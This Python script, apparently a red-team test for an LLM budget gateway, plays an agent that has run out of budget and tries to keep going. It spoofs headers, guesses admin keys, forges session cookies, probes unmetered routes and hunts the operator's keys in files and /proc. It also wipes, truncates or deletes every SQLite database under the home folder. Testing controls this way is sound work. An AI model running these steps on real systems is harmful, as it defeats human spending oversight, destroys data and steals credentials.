"""A program that has used up its budget, and tries every way to go on that it can find. Started as
`python attack.py`, with the operator's keys on its standard input, which it looks for; it prints a
JSON object: for each way, what each attempt came to."""

from __future__ import annotations

import http.client
import json
import os
import re
import shutil
import sqlite3
import sys
import tempfile
import urllib.parse
from argparse import _SubParsersAction
from collections.abc import Callable, Iterator
from contextlib import closing, redirect_stderr, redirect_stdout
from io import StringIO
from pathlib import Path
from typing import Any

BASE = urllib.parse.urlsplit(os.environ["OPENAI_BASE_URL"])
CHAT = {"model": "gpt-4o", "messages": [{"role": "user", "content": "mend the bridge"}]}
JSON = {"content-type": "application/json", "authorization": "Bearer sk-mine"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
GUESSES = ("admin", "gateway", "sk-mine", "gw-" + "a" * 43, "0" * 32, "")
Found = Iterator[tuple[str, Any]]


def ask(
    method: str, path: str, body: Any = None, headers: dict[str, str] | None = None
) -> tuple[int, str, dict[str, str]]:
    """Status, text and headers of an answer."""
    sent = body.encode() if isinstance(body, str) else json.dumps(body).encode()
    connection = http.client.HTTPConnection(BASE.hostname or "", BASE.port, timeout=120)
    with closing(connection):
        connection.request(method, path, sent if body is not None else None, headers or JSON)
        answer = connection.getresponse()
        return answer.status, answer.read().decode(errors="replace"), dict(answer.getheaders())


def passes(headers: dict[str, str] | None = None, **changes: Any) -> bool:
    """True if a call is answered by a model."""
    body, more = CHAT | changes, JSON | (headers or {})
    status, _, given = ask("POST", "/v1/chat/completions", body, more)
    return status == 200 and "x-gateway-stopped" not in given


def use_up() -> str:
    """The message of the first call that is refused."""
    for number in range(50):
        task = {"messages": [{"role": "user", "content": f"task {number}"}]}
        status, text, given = ask("POST", "/v1/chat/completions", CHAT | task)
        if status != 200 or "x-gateway-stopped" in given:
            return text
    raise SystemExit("no call was refused")


def run(*words: str, **more: str) -> Any:
    """The status of a command, as the program's own user can start it."""
    os.environ.update(more)
    try:
        from gateway.cli import main as command

        with redirect_stdout(StringIO()), redirect_stderr(StringIO()):
            return command(words)
    except SystemExit as ended:
        return ended.code
    except ImportError as error:
        return str(error)
    finally:
        for name in more:
            del os.environ[name]


def obeying() -> Found:
    """Every command and link of the message."""
    said = use_up()
    for command in re.findall(r"gateway [a-z][^`\"\\]*", said):
        yield command, run(*command.split()[1:])
    for link in re.findall(r"https?://[^\s\"\\]+", said):
        yield link, ask("POST", urllib.parse.urlsplit(link).path, "answer=yes", FORM)[0]


def other_stores() -> Found:
    """The command that raises a limit, with what the environment can say of store and key."""
    raising = ["budgets", "raise", "daily", "default", "--usd", "100", "--yes"]
    for path in files("*.db"):
        yield "GATEWAY_STORAGE__PATH", run(*raising, GATEWAY_STORAGE__PATH=str(path))
        for guess in GUESSES:
            env = {"GATEWAY_STORAGE__PATH": str(path), "GATEWAY_ADMIN_KEY": guess}
            yield "GATEWAY_ADMIN_KEY", run(*raising, **env, GATEWAY_AUTH__ADMIN_KEY=guess)


def every_command() -> Found:
    """With what it needs, and with the options that answer its questions."""
    try:
        from gateway.cli import build_parser, tree
    except ImportError as error:
        yield "import", str(error)
        return
    values = {"budget": "daily", "subject": "default", "apply": "on", "outcome": "success"}
    options = {"--yes": [], "--once": [], "--lift": [], "--active": [], "--usd": ["100"]}
    for words, parser, _ in tree(build_parser()):
        below = any(isinstance(a, _SubParsersAction) and a.required for a in parser._actions)
        if not words or words[0] in ("serve", "bench", "demo", "wrap", "dashboard") or below:
            continue
        given = {option for action in parser._actions for option in action.option_strings}
        needed = [a for a in parser._get_positional_actions() if a.nargs in (None, "+")]
        named = [next(iter(a.choices)) if a.choices else values.get(a.dest, "x") for a in needed]
        more = [part for name in options if name in given for part in (name, *options[name])]
        yield " ".join(words), run(*words, *named, *more)


def headers() -> Found:
    """Those that the gateway reads, with what could help."""
    values = ("off", "lift", "usd=100", "default", "another", "0")
    for name in ("mode", "budget", "conversation-id", "run-id", "tenant", "author", "model"):
        for value in values:
            yield f"{name}: {value}", passes({f"x-gateway-{name}": value})
    for name in ("tag-team", "tag-owner", "client", "parent", "experiment", "unsteered"):
        yield name, passes({f"x-gateway-{name}": "another"})
    for guess in GUESSES:
        yield "key", passes({"x-gateway-key": guess})
    for client in ("gateway-reader", "claude-cli/2.0", "x-gateway", ""):
        yield "user-agent", passes({"user-agent": client})
    yield "host", passes({"host": "127.0.0.2"})
    yield "forwarded", passes({"x-forwarded-for": "10.0.0.1", "forwarded": "for=10.0.0.1"})


def models() -> Found:
    """Other names, and none."""
    for name in ("gpt-4o-mini", "unknown-1", "openai/gpt-4o", "free", "ollama/llama3", "", None, 7):
        yield str(name), passes(model=name)
    for more in ({"Model": "unknown-1"}, {"stream": True}, {"max_tokens": 1}, {"n": 0}):
        yield str(more), passes(**more)


def routes() -> Found:
    """Whatever else a provider is paid for."""
    text = {"model": "gpt-4o", "input": "hi", "prompt": "hi", "max_tokens": 9}
    for path in (
        *("chat/completions/", "completions", "responses", "messages", "embeddings"),
        *("images/generations", "images/edits", "audio/speech", "audio/transcriptions"),
        *("moderations", "rerank", "batches", "files", "fine_tuning/jobs", "realtime/sessions"),
    ):
        yield path, ask("POST", f"/v1/{path}", CHAT | text)[0]
    gemini = "/v1beta/models/gemini-2.0-flash:generateContent"
    for path in ("/chat/completions", "/V1/chat/completions", "/v1//chat/completions", gemini):
        yield path, ask("POST", path, CHAT | {"contents": [{"parts": [{"text": "hi"}]}]})[0]
    upgrade = {
        "connection": "upgrade",
        "upgrade": "websocket",
        "sec-websocket-version": "13",
        "sec-websocket-key": "MDEyMzQ1Njc4OWFiY2RlZg==",
    }
    for path in ("realtime?model=gpt-4o-realtime-preview", "chat/completions"):
        yield path, ask("GET", f"/v1/{path}", headers=JSON | upgrade)[0]


def operations() -> Found:
    """The API and the forms of the pages, without a key, with guessed ones, and with cookies."""
    limits = {"budget": "daily", "subject": "default", "limits": {"usd": 100}, "lifted": True}
    for key in ({}, *({"x-gateway-key": guess} for guess in GUESSES)):
        for act in ("budgets/raise", "budgets/lift", "budgets/reset", "steering/off", "keys"):
            yield act, ask("POST", f"/api/{act}", limits, JSON | key)[0]
    cookies = []
    for guess in GUESSES:
        form = urllib.parse.urlencode({"key": guess})
        given = ask("POST", "/dashboard/login", form, FORM)[2]
        cookies.append(given.get("set-cookie", "gateway_session=admin").split(";")[0])
    for cookie in cookies:
        form = urllib.parse.urlencode({"budget": "daily", "subject": "default", "action": "lift"})
        for page in ("budgets", "keys", "runs", "steering", "patterns", "runs/x/control"):
            headers = {**FORM, "cookie": cookie, "sec-fetch-site": "same-origin"}
            yield page, ask("POST", f"/dashboard/{page}", form, headers)[0]


def files(pattern: str) -> list[Path]:
    """Files below the home folder that this user can reach."""
    found = [Path(folder) / name for folder, _, names in os.walk(Path.home()) for name in names]
    return sorted(path for path in found if path.match(pattern))


def tried(act: Callable[..., Any], *given: Any) -> str:
    """What an attempt at a file came to."""
    try:
        return str(act(*given))
    except (OSError, sqlite3.Error) as error:
        return type(error).__name__


def _change_limits(path: Path) -> int:
    with closing(sqlite3.connect(path, timeout=120)) as database, database:
        database.execute("DELETE FROM admin_keys")
        database.execute("DELETE FROM operator_changes")
        limits = "UPDATE budget_accounts SET limits = '{\"usd\": 100.0}', lifted = 1, usd = 0"
        return database.execute(f"{limits}, calls = 0, version = version + 1").rowcount


def _empty_tables(path: Path) -> str:
    """Returns the tables that could be emptied."""
    done = []
    with closing(sqlite3.connect(path, timeout=120, isolation_level=None)) as database:
        names = database.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
        for (name,) in names:
            if tried(database.execute, f"DELETE FROM {name}").startswith("<"):
                done.append(name)
    return " ".join(done)


def rows() -> Found:
    """Of every database that can be found."""
    for path in files("*.db"):
        for change in (_change_limits, _empty_tables):
            yield change.__name__, tried(change, path)
            yield "call", passes()


def database_files() -> Found:
    """Copied over with what it was at first, cut off, and deleted."""
    for path in files("*.db"):
        copy = Path(tempfile.gettempdir()) / f"copy-{os.getpid()}.db"
        yield "read", tried(shutil.copyfile, path, copy)
        yield "copied", tried(shutil.copyfile, copy, path)
        yield "call", passes()
        yield "cut", tried(os.truncate, path, 0)
        yield "call", passes()
        yield "deleted", tried(os.unlink, path)
        yield "call", passes()
        copy.unlink(missing_ok=True)


def secrets() -> Found:
    """Files, and what the system shows of other processes, with the operator's keys."""
    operators = sys.stdin.read().split()
    places = [*files("*"), *Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("*/cmdline")]
    for place in places:
        try:
            text = place.read_bytes().decode(errors="replace")
        except OSError:
            continue
        if any(key in text for key in operators):
            yield place.name, str(place)


WAYS = [obeying, headers, models, routes, operations, other_stores, every_command]
HARMFUL = [rows, database_files]


def main() -> None:
    found: dict[str, Any] = {"secrets": list(secrets())}
    for way in [*WAYS, *HARMFUL]:
        found[way.__name__] = [*way(), ("call", passes())]
    print(json.dumps(found))


if __name__ == "__main__":
    main()
